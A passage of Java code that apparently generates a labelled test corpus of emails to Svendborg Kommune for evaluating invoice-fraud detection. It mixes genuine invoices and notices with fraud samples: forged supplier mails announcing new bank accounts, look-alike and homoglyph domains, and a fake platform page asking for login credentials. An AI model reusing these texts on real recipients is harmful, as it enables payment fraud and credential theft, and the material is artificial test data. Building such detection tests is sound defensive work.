        String acct = account.replaceFirst("^IBAN ", "").replaceAll("[^A-Z0-9]", "");
        String root = credit ? "CreditNote" : "Invoice";
        String xml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
            + "<" + root + " xmlns=\"urn:oasis:names:specification:ubl:schema:xsd:" + root + "-2\"\n"
            + "  xmlns:cbc=\"urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2\"\n"
            + "  xmlns:cac=\"urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2\">\n"
            + "  <cbc:UBLVersionID>2.1</cbc:UBLVersionID>\n"
            + "  <cbc:CustomizationID>" + (peppol ? "urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0"
            : "OIOUBL-2.1") + "</cbc:CustomizationID>\n"
            + (peppol ? "  <cbc:ProfileID>urn:fdc:peppol.eu:2017:poacc:billing:01:1.0</cbc:ProfileID>\n"
            : "  <cbc:ProfileID schemeAgencyID=\"320\" schemeID=\"urn:oioubl:id:profileid-1.6\">Procurement-BilSim-1.0</cbc:ProfileID>\n")
            + "  <cbc:ID>" + no + "</cbc:ID>\n  <cbc:IssueDate>" + m.sent.atZone(ZoneOffset.UTC).toLocalDate() + "</cbc:IssueDate>\n"
            + (credit ? "" : "  <cbc:InvoiceTypeCode listAgencyID=\"320\">380</cbc:InvoiceTypeCode>\n")
            + "  <cbc:DocumentCurrencyCode>DKK</cbc:DocumentCurrencyCode>\n"
            + "  <cac:AccountingSupplierParty><cac:Party><cbc:EndpointID schemeID=\"0184\">DK" + cvr(s.domain()) + "</cbc:EndpointID>"
            + "<cac:PartyName><cbc:Name>" + s.name().replace("&", "&amp;") + "</cbc:Name></cac:PartyName></cac:Party></cac:AccountingSupplierParty>\n"
            + "  <cac:AccountingCustomerParty><cac:Party><cbc:EndpointID schemeID=\"0088\">" + GLN + "</cbc:EndpointID>"
            + "<cac:PartyName><cbc:Name>Svendborg Kommune</cbc:Name></cac:PartyName></cac:Party></cac:AccountingCustomerParty>\n"
            + (credit ? "" : "  <cac:PaymentMeans><cbc:PaymentMeansCode>" + (acct.length() > 14 ? "58" : "42") + "</cbc:PaymentMeansCode>"
            + "<cbc:PaymentID>" + no + "</cbc:PaymentID><cac:PayeeFinancialAccount><cbc:ID>" + acct
            + "</cbc:ID></cac:PayeeFinancialAccount></cac:PaymentMeans>\n")
            + "  <cac:TaxTotal><cbc:TaxAmount currencyID=\"DKK\">" + a.vat().replace(".", "").replace(',', '.') + "</cbc:TaxAmount></cac:TaxTotal>\n"
            + "  <cac:LegalMonetaryTotal><cbc:PayableAmount currencyID=\"DKK\">" + a.gross().replace(".", "").replace(',', '.')
            + "</cbc:PayableAmount></cac:LegalMonetaryTotal>\n</" + root + ">\n";
        return xml.getBytes(StandardCharsets.UTF_8);
    }

    private void xml() {
        Object[][] x = {{varme, false, null, false}, {sef, true, null, false}, {onemed, true, "inexchange.com", false},
            {medier, true, "inexchange.com", true}};
        for (Object[] e : x) {
            Supplier s = (Supplier) e[0];
            boolean peppol = (Boolean) e[1];
            boolean credit = (Boolean) e[3];
            String via = (String) e[2];
            M m = mail("oioubl-peppol-xml", false);
            invoiceLike.add(m.id);
            String n = no(credit ? "CRN" : "EF");
            Amount a = amount(12_000_000);
            date(m);
            Mime mime = headers(m, via == null ? s.name() : "InExchange for " + s.name(), via == null ? addr(s) : "delivery@" + via,
                "faktura@svendborg.dk", (credit ? "Kreditnota " : "Faktura ") + n + (peppol ? " (Peppol BIS 3)" : " (OIOUBL 2.1)"))
                .text("Vedhæftet " + (credit ? "kreditnota" : "faktura") + " " + n + " i " + (peppol ? "Peppol BIS Billing 3.0" : "OIOUBL")
                    + "-format til Svendborg Kommune, EAN " + GLN + "." + (via == null ? "\nEn læsbar PDF-udgave er også vedhæftet." : "")
                    + "\n\n" + s.name())
                .attach("application/xml", (credit ? "CreditNote_" : "Invoice_") + n + ".xml", ubl(m, s, n, a, peppol, credit, s.account()));
            if (via == null) {
                mime.attach("application/pdf", "udskrift_" + n + ".pdf", pdf(m, s, "Faktura", n, a, s.account(), 2, List.of()));
            }
            genuine(m, via == null ? s.ip() : dns.get(via).spfIps().get(0));
            m.description = (via == null ? s.domain() : s.domain() + " via " + via) + " electronic " + (credit ? "credit note" : "invoice")
                + " (" + (peppol ? "Peppol BIS" : "OIOUBL") + ")";
        }
    }

    private static final String KLOAK_NEW = bank("9860", "0008832214");

    /** A supplier really changes bank: a signed letter that asks for a call-back, then an invoice with the new account. */
    private void newAccount() {
        M m = mail("supplier-new-account", false);
        headers(m, "Sydfyns Kloakservice A/S", addr(kloak), "kreditor@svendborg.dk", "Varsel: ny bankforbindelse fra 1. januar 2027")
            .text("Kære samarbejdspartner\n\nSydfyns Kloakservice er blevet en del af en større koncern og flytter derfor bankforbindelse. "
                + "Fra 1. januar 2027 skal betalinger ske til " + KLOAK_NEW + ". Indtil da gælder den gamle konto.\n\nVi beder jer "
                + "kontrollere ændringen ved at ringe til vores direktør Søren Kirkeby på det nummer, der står på vores hjemmeside og i "
                + "jeres leverandørkartotek - ikke et nummer fra en mail. Et underskrevet brev er vedhæftet." + sig(kloak))
            .attach("application/pdf", "Ny_bankforbindelse_2027.pdf", Attachments.pdf(docId(m, "nybank"),
                "Ændring af bankforbindelse - Sydfyns Kloakservice A/S", List.of("Nuværende konto: " + kloak.account(),
                    "Ny konto fra 01.01.2027: " + KLOAK_NEW, "Underskrevet: Søren Kirkeby, adm. direktør")));
        genuine(m, kloak.ip());
        m.description = "listed supplier genuinely announces a new bank account from next year (signed, asks for call-back)";
        m = mail("supplier-new-account", false);
        invoiceLike.add(m.id);
        invoice(m, kloak, KLOAK_NEW, 15, List.of("Bemærk: ny bankforbindelse, jf. varsel"), "\n\nSom varslet i november: fakturaer "
            + "med forfald i januar betales til vores nye konto.");
        genuine(m, kloak.ip());
        m.description = "sydfyns-kloak.dk invoice payable to its announced new account, from its own server";
    }

    /** A supplier really sells its receivables to a named factoring company (a transport notice; account in the factor's name). */
    private void factoringNotice() {
        String factor = bank("3409", "6120057733");
        M m = mail("supplier-factoring-notice", false);
        headers(m, anlaeg.person(), addr(anlaeg), "kreditor@svendborg.dk", "Transport - fremtidige fakturaer fra Sydfyns Anlægsgartner")
            .text("Hej\n\nVi har indgået factoringaftale med Svea Finans. Fremover står der en transportpåtegning på vores fakturaer, og "
                + "betaling skal ske til Svea Finans' konto " + factor + ". Svea sender jer selv en bekræftelse. Ring gerne til mig på "
                + "vores kendte nummer, hvis I vil have det bekræftet.\n\nMette Bjerreby\nSydfyns Anlægsgartner ApS")
            .attach("application/pdf", "transportpaategning.pdf", Attachments.pdf(docId(m, "transport"), "Transportpåtegning",
                List.of("Alle tilgodehavender hos Svendborg Kommune er transporteret til Svea Finans A/S", "Betaling med frigørende "
                    + "virkning kun til " + factor)));
        genuine(m, anlaeg.ip());
        m.description = "listed supplier (SPF only, no DMARC) genuinely announces factoring to a named factor";
        m = mail("supplier-factoring-notice", false);
        headers(m, "Svea Finans", "factoring@svea-finans.dk", "kreditor@svendborg.dk", "Bekræftelse af transport: Sydfyns Anlægsgartner ApS")
            .text("Svendborg Kommune\n\nSvea Finans A/S bekræfter, at Sydfyns Anlægsgartner ApS (CVR " + cvr("sydfyns-anlaeg.dk")
                + ") har transporteret sine tilgodehavender til os. Betaling skal ske til " + factor + ". Kontakt jeres kontaktperson "
                + "hos leverandøren, hvis I er i tvivl.\n\nMed venlig hilsen\nSvea Finans A/S, Factoring");
        genuine(m, "127.52.8.1");
        m.description = "the named factoring company confirms the transport, DMARC pass";
    }

    private void smallSuppliers() {
        Object[][] x = {{vvs, "Første regning fra os. Beholderen er skiftet og anlægget er trykprøvet. Vi kan også fakturere via EAN."},
            {smedie, "Her er regningen for stativerne. Jeg har ikke nogen hjemmeside-mail der virker ordentligt, så skriv hvis den ikke kommer frem."},
            {have, "Hej! Træerne er beskåret. Regningen er vedhæftet. Jeg bruger min gmail til firmaet."},
            {tolk, "Vedhæftet faktura for tolkning ved samtalerne i uge 46. Venlig hilsen Rikke"},
            {foto, "Tusind tak for opgaven. Billederne er leveret via WeTransfer, og fakturaen ligger her."},
            {gulv, "Gulvet er færdigt og lakeret to gange. Det er første gang jeg fakturerer kommunen - sig til hvis I mangler noget."},
            {musik, "Hermed regning for musikterapiforløbene. Jeg er momsfritaget."},
            {laase, "Hej. Nøglesystemet er omkodet og nye nøgler afleveret til driften. Faktura vedlagt."}};
        int v = 0;
        for (Object[] e : x) {
            Supplier s = (Supplier) e[0];
            M m = mail("small-supplier-invoice", false);
            invoiceLike.add(m.id);
            String n = String.valueOf(1000 + rnd.nextInt(900));
            Amount a = amount(1_100_000);
            headers(m, s.person(), addr(s), "faktura@svendborg.dk", (v % 2 == 0 ? "Regning " : "Faktura nr. ") + n)
                .text("Hej\n\n" + e[1] + "\n\n" + s.name() + "\nCVR " + cvr(s.domain() + s.name()) + "\nKonto: " + s.account()
                    + (v % 3 == 1 ? "\n\nSendt fra min iPhone" : ""))
                .attach("application/pdf", pdfName(n, v + 2), pdf(m, s, "Faktura", n, a, s.account(), 3, List.of()));
            genuine(m, s.ip());
            m.description = "new unlisted small supplier " + s.name() + " (" + s.domain() + ") first invoice";
            v++;
        }
    }

    private void newsletters() {
        M m = mail("newsletter", false);
        m.mailFrom = "bounce-4471@ubivox.com";
        headers(m, "KØF", "nyhedsbrev@koef.dk", "oekonomi@svendborg.dk", "KØF Nyt: svindel med ændrede leverandøroplysninger")
            .html("<html><body><h2>Kommunale Økonomichefer - nyt i november</h2><p>Flere kommuner har i efteråret modtaget mails, hvor en kendt "
                + "leverandør tilsyneladende meddeler ny bankforbindelse. Foreningen anbefaler, at kreditorafdelingen altid ringer op på et "
                + "kendt nummer og aldrig retter kontonummer på baggrund af en mail alene.</p><p><a href=\"https://www.koef.dk/viden\">"
                + "Læs mere</a> | <a href=\"https://www.koef.dk/afmeld\">Afmeld</a></p></body></html>");
        m.ip = "127.54.1.1";
        m.helo = "smtp3.ubivox.com";
        m.signers.add("koef.dk");
        m.signers.add("ubivox.com");
        m.description = "municipal finance managers' newsletter on changed-bank-detail fraud via a Danish ESP (sender's and ESP's DKIM)";
        m = mail("newsletter", false);
        headers(m, "SAMSIK", "nyheder@samsik.dk", "it@svendborg.dk", "Varsel: falske opkald efter falske fakturaer")
            .text("Til myndighedernes sikkerhedsansvarlige\n\nVi ser en bølge af mails med en \"faktura\" uden vedhæftning, hvor "
                + "modtageren bliver bedt om at ringe til et telefonnummer for at annullere en ordre. Opkaldet fører til "
                + "fjernadgang til pc'en. Del gerne advarslen med jeres økonomimedarbejdere.\n\nSAMSIK");
        genuine(m, "127.54.4.1");
        m.description = "authority newsletter warning about call-back invoices, signed";
        m = mail("newsletter", false);
        m.mailFrom = "bounces+2281-svendborg.dk@sendgrid.net";
        headers(m, "Fynske Bank Erhverv", "erhverv@fynskebank.dk", "oekonomi@svendborg.dk", "Ny funktion: bekræft modtager før betaling")
            .html("<html><body><p>Kære erhvervskunde</p><p>Fra januar viser Netbank Erhverv kontohaverens navn, før en betaling til en "
                + "ny modtager godkendes. Det gør det sværere for svindlere at få jer til at betale til en forkert konto.</p>"
                + "<p>Fynske Bank</p></body></html>");
        m.ip = "127.54.2.1";
        m.helo = "o12.sendgrid.net";
        m.signers.add("fynskebank.dk");
        m.description = "bank newsletter via SendGrid (bank's Ed25519 DKIM, ESP's MAIL FROM), no invoice";
        m = mail("newsletter", false);
        headers(m, "Minuba", "nyt@minuba.dk", "indkoeb@svendborg.dk", "Minuba: nu med e-faktura direkte til offentlige kunder")
            .html("<html><body><p>Hej</p><p>Dine leverandører i Minuba kan nu sende OIOUBL direkte til kommunens EAN-nummer. "
                + "Som kunde behøver du ikke gøre noget.</p><p>Venlig hilsen<br>Minuba</p></body></html>");
        genuine(m, "127.53.1.1");
        m.description = "platform product newsletter, signed (no invoice)";
    }

    /** The list server tags the subject and appends a footer: the author's signature breaks; the list signs itself. */
    static byte[] listFooter(byte[] raw) {
        String s = new String(raw, StandardCharsets.UTF_8);
        s = s.replaceFirst("(?m)^Subject: ", "Subject: [kreditor-fyn] ");
        s = s.replaceFirst("\r\n$", "\r\n-- \r\nkreditor-fyn: erfa-liste for kreditorbogholdere i de fynske kommuner\r\n"
            + "https://kommunaloekonomi.dk/lister/kreditor-fyn\r\n");
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private void lists() {
        String[][] p = {{"faaborgmidtfyn.dk", "Hanne Løkke", "hanne.lokke@", "Mail om factoring - ægte eller ej?",
            "Hej alle\n\nVi har fået en mail fra en \"factoringvirksomhed\", der siger at en af vores leverandører har overdraget sine "
                + "fordringer, og at vi fremover skal betale til dem. Leverandøren kendte intet til det. Har andre set det?\n\nHanne"},
            {"nyborg.dk", "Per Ullerslev", "pu@", "SV: Mail om factoring - ægte eller ej?",
                "Ja, vi fik samme type sidste år. Vi ringer nu altid til leverandøren på nummeret fra vores kreditorkartotek, "
                    + "inden vi registrerer en transport.\n\nPer, Nyborg Kommune"},
            {"langelandkommune.dk", "Susanne Rudkøbing", "sr@", "Lønsvindel - pas på",
                "Til info: vores lønafdeling fik en mail fra en \"medarbejder\" på Gmail, der bad om at få lønnen sat ind på en ny "
                    + "konto. Det var ikke medarbejderen. Tjek altid via telefon eller personligt.\n\nSusanne"}};
        for (String[] x : p) {
            M m = mail("mailing-list", false);
            m.mailFrom = "kreditor-fyn-bounces@kommunaloekonomi.dk";
            headers(m, x[1], x[2] + x[0], "kreditor-fyn@kommunaloekonomi.dk", x[3])
                .header("List-Id", "kreditor-fyn <kreditor-fyn.kommunaloekonomi.dk>")
                .header("List-Unsubscribe", "<https://kommunaloekonomi.dk/lister/kreditor-fyn/afmeld>").text(x[4]);
            m.signers.add(x[0]);
            m.ip = "127.57.2.1";
            m.helo = "lists.kommunaloekonomi.dk";
            m.afterSigning = HeldOutCorpus5::listFooter;
            m.listSigner = "kommunaloekonomi.dk";
            m.description = "list post by " + x[0] + " (DMARC " + dns.get(x[0]).dmarc() + ") about fraud; tag and footer break its DKIM";
        }
    }

    private void forwarded() {
        // a hosting provider's forwarder with SRS: SPF passes for the forwarder, the supplier's DKIM survives
        M m = mail("forwarded", false);
        invoiceLike.add(m.id);
        invoice(m, onemed, onemed.account(), 6, List.of(), "");
        m.mailFrom = "SRS0=Hq2b=RD=onemed.dk=kundeservice@forward.simply.com";
        m.signers.add("onemed.dk");
        m.ip = "127.57.3.1";
        m.helo = "forward.simply.com";
        m.description = "onemed.dk invoice forwarded with SRS (SPF passes for the forwarder, supplier's DKIM survives)";
        // a relay without SRS: the supplier's envelope stays, SPF fails, DKIM survives where signed
        for (Supplier s : List.of(fynbus, frugt)) {
            m = mail("forwarded", false);
            invoiceLike.add(m.id);
            invoice(m, s, s.account(), 10, List.of(), "");
            if (dns.get(s.domain()).dkim() != null) {
                m.signers.add(s.domain());
            }
            m.ip = "127.57.1.1";
            m.helo = "relay.fynnet.dk";
            m.description = s.domain() + " invoice relayed without SRS" + (dns.get(s.domain()).dkim() != null ? " (DKIM survives)"
                : " (SPF only: nothing survives)");
        }
        m = mail("forwarded", false);
        invoiceLike.add(m.id);
        String n = no("V");
        Amount a = amount(3_000_000);
        headers(m, "Jonas Gudme", "jonas.gudme@" + OWN, "kreditor@svendborg.dk", "VS: Faktura " + n)
            .text("Hej Kreditor\n\nDenne landede hos mig. Jeg har tjekket den, arbejdet er udført - konto 5320.\n\nJonas\nEjendomme\n\n"
                + "-------- Videresendt meddelelse --------\nFra: " + vognmand.person() + " <" + addr(vognmand) + ">\nDato: " + dashedDay(m, -2)
                + "\nEmne: Faktura " + n + "\n\nHej Jonas, her er regningen for bortkørsel. Mvh Bjarne")
            .attach("application/pdf", "Faktura " + n + ".pdf", pdf(m, vognmand, "Faktura", n, a, vognmand.account(), 3, List.of()));
        genuine(m, OWN_IP);
        m.description = "colleague forwards a listed supplier's invoice from our own domain, signed";
    }

    private void internal() {
        M m = mail("internal", false);
        headers(m, "Karina Vester", "karina.vester@" + OWN, "kreditor@svendborg.dk", "Ubehandlede fakturaer over 14 dage")
            .text("Hej alle\n\nVedhæftet udtræk af fakturaer, der ikke er disponeret. Husk at godkende inden fredag.\n\nKarina")
            .attach("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "ubehandlede.xlsx",
                Attachments.excel(List.of("Kreditor;Faktura;Beløb", "Fynske Medier;" + historyNo.get("fynskemedier.dk") + ";21.400,00",
                    "SEF Energi;" + historyNo.get("sef.dk") + ";88.215,50"), false));
        genuine(m, OWN_IP);
        m.description = "internal list of unprocessed invoices, signed";
        m = mail("internal", false);
        headers(m, "Økonomi og Digitalisering", "oekonomi@" + OWN, "alle-ledere@svendborg.dk", "Påmindelse: sådan håndterer vi ny bankkonto")
            .html("<html><body><p>Kære ledere</p><p>Kommer der en mail om ny konto fra en leverandør, så send den til "
                + "kreditor@svendborg.dk. Vi ringer altid leverandøren op på et kendt nummer. Det samme gælder medarbejderes "
                + "lønkonti: ændringer sker kun i Medarbejderportalen.</p></body></html>");
        genuine(m, OWN_IP);
        m.description = "internal HTML-only notice about bank and payroll account changes, signed";
        m = mail("internal", false);
        headers(m, "Løn og Personale", "loen@" + OWN, "alle@svendborg.dk", "Lønsedler i e-Boks fra december")
            .text("Kære alle\n\nFra december ligger lønsedlen kun i e-Boks. Vi sender aldrig links til lønsedler pr. mail.\n\nLøn og Personale");
        genuine(m, OWN_IP);
        m.description = "internal payroll notice, signed";
        m = mail("internal", false);
        headers(m, "Thomas Skårup", "thomas.skaarup@" + OWN, "kreditor@svendborg.dk", "Oprettelse af ny kreditor")
            .text("Hej\n\nVil I oprette Oure VVS ApS som kreditor (CVR " + cvr("oure-vvs.dk" + vvs.name()) + ", " + vvs.account()
                + ")? Jeg har selv talt med Jesper Oure.\n\nThomas, Ejendomme");
        genuine(m, OWN_IP);
        m.description = "internal request to create a new creditor, signed";
    }

    private void notices() {
        String[][] b = {{"nordfynsbank.dk", "Nordfyns Bank", "netbank@", "Betalingsfil behandlet",
            "Betalingsfilen KRED-2026-47 med 38 betalinger (i alt 2.108.441,25 kr.) er behandlet og gennemført."},
            {"fynskebank.dk", "Fynske Bank", "noreply@", "Kontoudtog er klar",
                "Jeres kontoudtog for november er klar i Netbank Erhverv. Log på via fynskebank.dk som normalt."},
            {"sdfi.dk", "Klimadatastyrelsen", "noreply@", "Driftsinformation: Datafordeleren",
                "Der er planlagt vedligehold af Datafordeleren lørdag kl. 06-10. Der er ingen handling for jer."}};
        for (String[] x : b) {
            M m = mail("bank-authority-notice", false);
            headers(m, x[1], x[2] + x[0], "oekonomi@svendborg.dk", x[3]).text(x[4] + "\n\nVenlig hilsen\n" + x[1]);
            genuine(m, dns.get(x[0]).spfIps().get(0));
            m.description = x[0] + " automatic notice, signed";
        }
    }

    private void foreign() {
        Object[][] x = {{"loom.com", "Loom, Inc.", "billing@", "Your Loom invoice", "paid by card ending 2291",
            "Loom Business, 40 creators"},
            {"monday.com", "monday.com Ltd.", "noreply@", "monday.com invoice", iban("NL", "CITI2031234567"),
                "Work Management Pro, 30 seats, annual"},
            {"pipedrive.com", "Pipedrive OÜ", "billing@", "Pipedrive receipt", "paid by card ending 7730", "Professional plan, 12 seats"},
            {"septima.dk", "Septima P/S", "faktura@", "Faktura", iban("DK", "54000004410021"), "GIS-konsulentbistand, 22 timer"}};
        int v = 1;
        for (Object[] e : x) {
            M m = mail("foreign-invoice", false);
            invoiceLike.add(m.id);
            String d = (String) e[0];
            Supplier s = new Supplier((String) e[1], d, (String) e[1], "", "", (String) e[4], (String) e[5]);
            String n = no("IN");
            Amount a = amount(2_200_000);
            boolean bank = ((String) e[4]).startsWith("IBAN");
            headers(m, (String) e[1], e[2] + d, "it@svendborg.dk", e[3] + " " + n)
                .text((d.endsWith(".dk") ? "Hej\n\nHermed faktura " + n + " for " + e[5] + ".\n\n" : "Hi,\n\nThanks for your business. "
                    + "Invoice " + n + " (" + e[5] + ") is attached.\n\n") + (bank ? "Please pay by bank transfer to " + e[4] + "."
                    : "No payment needed: " + e[4] + ".") + "\n\n" + e[1])
                .attach("application/pdf", "Invoice-" + n + ".pdf", pdf(m, s, "Faktura", n, a, (String) e[4], v++, List.of()));
            genuine(m, dns.get(d).spfIps().get(0));
            m.description = "foreign/SaaS supplier invoice from " + d + (bank ? " with " + ((String) e[4]).substring(5, 7) + " IBAN" : ", card");
        }
    }

    private void receipts() {
        M m = mail("receipt", false);
        headers(m, "Uno-X", "kvittering@uno-x.dk", "vej-park@svendborg.dk", "Din kvittering fra Uno-X Svendborg Vest")
            .html("<html><body><p>Tak for besøget.</p><p>Diesel 61,2 l &nbsp; 812,10 kr.<br>AdBlue 10 l &nbsp; 129,00 kr.<br>"
                + "Betalt med brændstofkort</p></body></html>");
        genuine(m, "127.55.5.1");
        m.description = "fuel receipt, HTML only, signed";
        m = mail("receipt", false);
        headers(m, "ParkZone", "no-reply@parkzone.dk", "aeldre-sundhed@svendborg.dk", "Kvittering for parkering")
            .text("Parkering, Svendborg Sygehus, 1 t 12 min: 24,00 kr. Trukket på virksomhedskonto.\n\nParkZone");
        genuine(m, "127.55.6.1");
        m.description = "parking app receipt, signed";
        m = mail("order-confirmation", false);
        headers(m, "Computersalg", "ordre@computersalg.dk", "it@svendborg.dk", "Ordrebekræftelse 7710934")
            .text("Tak for din ordre: 15 stk. USB-C dockingstationer. Faktura sendes til EAN " + GLN + " ved levering.\n\nComputersalg.dk");
        genuine(m, "127.55.7.1");
        m.description = "web shop order confirmation, signed";
        m = mail("order-confirmation", false);
        headers(m, onemed.person(), addr(onemed), "aeldre-sundhed@svendborg.dk", "Ordrebekræftelse - hjemmeplejen Syd")
            .text("Tak for ordren. Varerne leveres onsdag. Faktura sendes som e-faktura via InExchange." + sig(onemed))
            .attach("application/pdf", "ordrebekraeftelse.pdf", Attachments.pdf(docId(m, "ordre"), "Ordrebekræftelse",
                List.of("60 pk. nitrilhandsker", "25 pk. forbindinger")));
        genuine(m, onemed.ip());
        m.description = "listed supplier order confirmation, signed";
    }

    private void letters() {
        M m = mail("supplier-letter", false);
        headers(m, varme.person(), addr(varme), "kreditor@svendborg.dk", "Nye fjernvarmepriser 2027")
            .text("Kære kunde\n\nPrisen på fjernvarme ændres pr. 1. januar 2027. Se vedhæftede prisblad. Jeres betalingsaftale "
                + "og vores kontonummer er uændret." + sig(varme))
            .attach("application/pdf", "prisblad_2027.pdf", Attachments.pdf(docId(m, "pris"), "Prisblad 2027",
                List.of("Energipris pr. MWh 545,00 kr.", "Fast bidrag pr. m2 12,40 kr.")));
        genuine(m, "127.51.3.1");
        m.description = "listed supplier price letter, same account, signed (DKIM only)";
        m = mail("supplier-letter", false);
        headers(m, fynbus.person(), addr(fynbus), "boern-unge@svendborg.dk", "Re: Kørsel i juleferien")
            .header("In-Reply-To", threads.get("fynbus.dk"))
            .text("Hej\n\nKørslen er aflyst 21.12-3.1 som ønsket. Decemberfakturaen bliver reduceret tilsvarende.\n\n> Kan kørslen "
                + "sættes på pause i juleferien?\n> Børn og Unge, Svendborg Kommune" + sig(fynbus));
        genuine(m, fynbus.ip());
        m.description = "listed supplier reply in a thread, signed";
        m = mail("quote", false);
        headers(m, toemrer.person(), addr(toemrer), "ejendomme@svendborg.dk", "Tilbud: nyt halvtag ved Tåsinge Skole")
            .text("Hej\n\nHer er tilbuddet, som vi talte om. Det gælder til udgangen af januar." + sig(toemrer))
            .attach("application/pdf", "Tilbud_halvtag.pdf", Attachments.pdf(docId(m, "tilbud"), "Tilbud",
                List.of("Halvtag 6 x 12 m inkl. tagpap", "Pris ekskl. moms 142.800,00 kr.", "Dette er et tilbud, ikke en faktura")));
        genuine(m, toemrer.ip());
        m.description = "listed supplier quote (not an invoice), signed, no DMARC record";
    }

    // ------------------------------------------------------------------------------------------ fraud

    private int host = 1;

    private static final String[] NEW = {iban("LT", "7300010145678901"), bank("5301", "0004417280"), iban("GB", "REVO00997012345678"),
        iban("DE", "100110012620123456"), iban("NL", "BUNQ2046123456"), iban("PL", "291020102600000102029999"),
        iban("EE", "1277000012345678"), bank("9860", "0001284473"), iban("IE", "BOFI90001712345678"),
        iban("MT", "VALL22013000000040012345678"), iban("RO", "BTRL01301205N12345XX"), iban("HU", "107000240000000012345678"),
        iban("CY", "002001950000357001234567"), iban("BG", "STSA93001234567890"), iban("SE", "80000810340009783242"),
        iban("DK", "89880001553471")};
    private int nw;

    private String next() {
        return NEW[nw++ % NEW.length];
    }

    private static final String[] CHANGE = {"\n\nOBS: Vores bankforbindelse er ændret. Betal venligst kun til kontoen på denne faktura.",
        "\n\nPlease note our new remittance details on the attached invoice. Payments to the old account will be rejected.",
        "\n\nVi er skiftet til ny bank efter opkøb - opdater venligst jeres kartotek.", "",
        "\n\nFakturaen skal betales hurtigst muligt, da vi har haft problemer med vores gamle konto."};

    private void fraud() {
        forgedSupplier();
        lookalikes();
        platformFraud();
        compromised();
        hijack();
        ownDomain();
        ceo();
        bodyOnly();
        inkasso();
        digitalPost();
        renewals();
        xmlFraud();
        qrFraud();
        english();
        imageOnly();
        archives();
        factoring();
        payroll();
        callback();
        refund();
        svg();
        masterData();
        bankApproval();
        giftCards();
    }

    private void forgedSupplier() {
        Supplier[] s = {forsyning, fynbus, sef, maler, vognmand, el};
        for (int i = 0; i < s.length; i++) {
            M m = mail("forged-supplier", true);
            invoice(m, s[i], next(), i * 4 + 1, List.of(), CHANGE[i % CHANGE.length]);
            forged(m, host++);
            m.description = "forged From " + s[i].domain() + " (DMARC " + dns.get(s[i].domain()).dmarc() + "), new account, fraudster's host";
        }
    }

    private void lookalikes() {
        Object[][] x = {{forsyning, "svendborgforsning.dk", "typo"}, {varme, "fjernvarmefyen.dk", "typo"}, {onemed, "onemedd.dk", "typo"},
            {fynbus, "fynbus.eu", "other TLD"}, {medier, "fynskemedier.com", "other TLD"}, {fynbus, idn("f\u0443nbus.dk"), "homoglyph"},
            {onemed, idn("\u043Enemed.dk"), "homoglyph"}, {forsyning, "svendborgforsyning-faktura.dk", "added word"},
            {kloak, "kloak-sydfyn.dk", "added word"}};
        for (int i = 0; i < x.length; i++) {
            Supplier real = (Supplier) x[i][0];
            String d = (String) x[i][1];
            M m = mail("lookalike-" + ((String) x[i][2]).replace(" ", "-").toLowerCase(java.util.Locale.ROOT), true);
            invoice(m, as(real, d, real.box()), next(), i * 3 + 4, List.of(), CHANGE[(i + 1) % CHANGE.length]);
            ownedBy(m, d);
            m.description = x[i][2] + " look-alike " + d + " of " + real.domain() + ", own DNS, new account";
        }
    }

    private void platformFraud() {
        Object[][] x = {{"minuba-faktura.dk", "Minuba", toemrer, "pdf"}, {"apacta-invoice.com", "Apacta", maler, "link"},
            {"inexchange-docs.com", "InExchange", onemed, "pdf"}};
        for (Object[] e : x) {
            String d = (String) e[0];
            Supplier s = (Supplier) e[2];
            M m = mail("lookalike-platform", true);
            String n = no("P");
            Amount a = amount(6_000_000);
            String acc = next();
            Mime mime = headers(m, s.name() + " via " + e[1], "faktura@" + d, "faktura@svendborg.dk", "Faktura " + n + " fra " + s.name());
            if (e[3].equals("link")) {
                mime.html("<html><body><p>" + e[1] + "</p><p>Du har modtaget en faktura fra <b>" + s.name() + "</b> (DKK " + a.gross()
                    + "). Af sikkerhedshensyn kan fakturaen kun åbnes online.</p><p><a href=\"https://" + d + "/doc/" + n + "\">Åbn "
                    + "faktura</a></p><p>Log ind med din arbejdsmail og adgangskode.</p></body></html>");
            } else {
                mime.html("<html><body><p>Du har modtaget en faktura fra <b>" + s.name() + "</b> via " + e[1] + ".</p><p>Nr. " + n
                    + " &middot; DKK " + a.gross() + "</p><p>Leverandøren har opdateret sine betalingsoplysninger.</p></body></html>")
                    .attach("application/pdf", "faktura_" + n + ".pdf", pdf(m, s, "Faktura", n, a, acc, 1, List.of("Ny konto")));
            }
            ownedBy(m, d);
            m.description = "look-alike " + d + " of platform in " + s.domain() + "'s name" + (e[3].equals("pdf") ? ", new account" : ", login link");
        }
        Object[][] y = {{"minuba.dk", "faktura@", "Minuba", el}, {"apacta.com", "invoices@", "Apacta", kloak}};
        for (Object[] e : y) {
            String d = (String) e[0];
            Supplier s = (Supplier) e[3];
            M m = mail("platform-account-misused", true);
            String n = no("P");
            Amount a = amount(9_000_000);
            String acc = next();
            headers(m, s.name() + " via " + e[2], e[1] + d, "faktura@svendborg.dk", "Faktura " + n + " fra " + s.name())
                .html("<html><body><p>Du har modtaget en faktura fra <b>" + s.name() + "</b>.</p><p>Nr. " + n + " &middot; DKK "
                    + a.gross() + "</p><p>Besked fra afsender: <i>Betal venligst til kontoen på fakturaen - vores gamle konto er "
                    + "spærret. Skal betales i dag.</i></p></body></html>")
                .attach("application/pdf", "faktura_" + n + ".pdf", pdf(m, s, "Faktura", n, a, acc, 0, List.of()));
            genuine(m, dns.get(d).spfIps().get(0));
            m.description = "real platform " + d + " sends in " + s.domain() + "'s name from a taken-over account, new account";
        }
    }

    private void compromised() {
        Object[][] x = {{kloak, iban("LT", "2110000051234567"), "Pga. et bankskifte i koncernen skal betalinger fremover ske til "
            + "nedenstående konto. Vi kan desværre ikke tage telefonen i denne uge."},
            {toemrer, bank("9860", "0007719025"), "Hej, vi har fået ny bank. Vil I rette kontoen inden næste betalingskørsel? Henrik"},
            {frugt, iban("GB", "MONZ04000412345678"), "Due to our new group treasury all invoices must now be paid to the account below."},
            {rengoering, bank("5301", "0006628113"), "Vi har skiftet bank, da den gamle konto er lukket. Fakturaen er vedhæftet med "
                + "de nye oplysninger."}};
        int v = 0;
        for (Object[] e : x) {
            Supplier s = (Supplier) e[0];
            M m = mail("compromised-supplier", true);
            if (v % 2 == 1) {
